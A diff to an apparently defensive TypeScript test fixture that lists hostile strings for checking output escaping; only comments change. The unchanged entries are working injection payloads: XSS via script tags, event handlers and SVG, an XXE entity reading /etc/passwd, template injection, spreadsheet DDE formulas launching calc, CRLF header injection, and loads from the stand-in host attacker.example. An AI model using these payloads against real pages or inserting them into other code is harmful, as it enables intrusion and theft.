@@ -1,13 +1,13 @@
 /**
- * Texts that would run, fetch or break something wherever a text is taken for markup, code, a style,
- * an address, a cell or a line of its own. `pwned` is what they set; what they fetch is of a host that
- * does not exist. None holds what a dataset may not (`src/format/checks/checkCharacters.ts`).
+ * Texts that run, fetch or break something if a page treats them as markup, code, style, address,
+ * spreadsheet cell or line. They set `pwned`, and fetch from a host that does not exist. All their
+ * characters are allowed in a dataset (`src/format/checks/checkCharacters.ts`).
  */
 const SCRIPT = 'window.pwned=1';
 const AWAY = 'https://attacker.example';
 
 export const hostileTexts: readonly string[] = [
-  // Elements that run what they hold.
+  // Script elements.
   `<script>${SCRIPT}</script>`,
   `<ScRiPt src=${AWAY}/x.js></sCrIpT>`,
   `<script type=module>import '${AWAY}/m.js'</script>`,
@@ -17,7 +17,7 @@ export const hostileTexts: readonly string[] = [
   `&#60;script&#62;${SCRIPT}&#60;/script&#62;`,
   `\\u003cscript\\u003e${SCRIPT}\\u003c/script\\u003e`,
   `%3Cscript%3E${SCRIPT}%3C/script%3E`,
-  // Handlers.
+  // Event handlers.
   `<img src=x onerror=${SCRIPT}>`,
   `<img src="${AWAY}/p.png" alt=pwned name=pwned>`,
   `<body onload=${SCRIPT}>`,
@@ -28,7 +28,7 @@ export const hostileTexts: readonly string[] = [
   `<marquee onstart=${SCRIPT}>x</marquee>`,
   `<a href=# onpointerover=${SCRIPT}>x</a>`,
   `<x onanimationstart=${SCRIPT} style="animation:spin 1s">`,
-  // Other worlds of names.
+  // SVG and MathML.
   `<svg onload=${SCRIPT}>`,
   `<svg><script href="data:text/javascript,${SCRIPT}" /></svg>`,
   `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
@@ -36,7 +36,7 @@ export const hostileTexts: readonly string[] = [
   `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></foreignObject></svg>`,
   `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
   `<math href="javascript:${SCRIPT}">x</math>`,
-  // Frames, forms, documents.
+  // Frames, forms and documents.
   `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
   `<iframe src="javascript:parent.pwned=1"></iframe>`,
   `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
@@ -47,7 +47,7 @@ export const hostileTexts: readonly string[] = [
   `<form action=${AWAY}/><button autofocus>x</button></form>`,
   `<template><script>${SCRIPT}</script></template>`,
   `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
-  // Out of an attribute, an element, a comment, a section.
+  // Ends of attributes, elements, comments and CDATA sections.
   `"><img src=x onerror=${SCRIPT}>`,
   `'><svg/onload=${SCRIPT}>`,
   `" autofocus onfocus="${SCRIPT}" x="`,
@@ -64,7 +64,7 @@ export const hostileTexts: readonly string[] = [
   `]]><script>${SCRIPT}</script><![CDATA[`,
   `<?xml-stylesheet href="${AWAY}/x.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
   `&e; &#0; &nosuch; &amp;amp; & &`,
-  // Out of a text of a program, a template, a pattern that is replaced.
+  // Ends of string literals, templates and replacement patterns.
   `";${SCRIPT};//`,
   `';${SCRIPT};//`,
   `\${${SCRIPT}} {{constructor.constructor('${SCRIPT}')()}} <%= ${SCRIPT} %>`,
@@ -82,7 +82,7 @@ export const hostileTexts: readonly string[] = [
   `<p style="background:url(${AWAY}/x.png);position:fixed;inset:0">x`,
   `red;}*{background:url(${AWAY}/y.png)}`,
   `</p></div></div></main><h1>`,
-  // Cells and lines of their own.
+  // Spreadsheet formulas, and lines of calendars and headers.
   `=HYPERLINK("${AWAY}","x")`,
   `+cmd|' /C calc'!A0`,
   `-2+3+cmd|' /C calc'!A0`,
@@ -91,13 +91,13 @@ export const hostileTexts: readonly string[] = [
   `x\r\nEND:VEVENT\r\nATTACH:${AWAY}/x\r\nBEGIN:VEVENT`,
   `x\nSet-Cookie: pwned=1\n\n<script>${SCRIPT}</script>`,
   `a;b,c\\;d\\,e\\n"f"`,
-  // What is read otherwise than it is written.
+  // Characters that display differently from how they are written.
   '\u202etxt.exe\u202c \u2067אב\u2069',
   'a\u200bb\u200dc\ufeffd\u00ade\u2060f\u200e\u200f',
   `Z${'\u0351\u0316\u0334'.repeat(20)}algo`,
   '＜script＞ﬁ \u202e\u202c',
   '👩‍👩‍👧‍👦🏴‍☠️\u{e0041}\u{10fffd}',
-  // Names that something already has.
+  // Names of existing properties and values.
   '__proto__',
   'constructor',
   'toString',
@@ -111,9 +111,9 @@ export const hostileTexts: readonly string[] = [
   `https://example.org/${'very-long/'.repeat(30)}`,
 ];
 
-/** All of them in one text. */
+/** All hostile texts in one. */
 export const allOfThem = hostileTexts.join(' ');
 
-/** Some of them in one text: every `share`th, from `k` on, so that `share` texts hold all. */
+/** Every `share`th hostile text from `k` on, in one. Together, `share` such texts have all. */
 export const someOfThem = (k: number, share: number): string =>
   hostileTexts.filter((_, i) => i % share === k).join(' ');
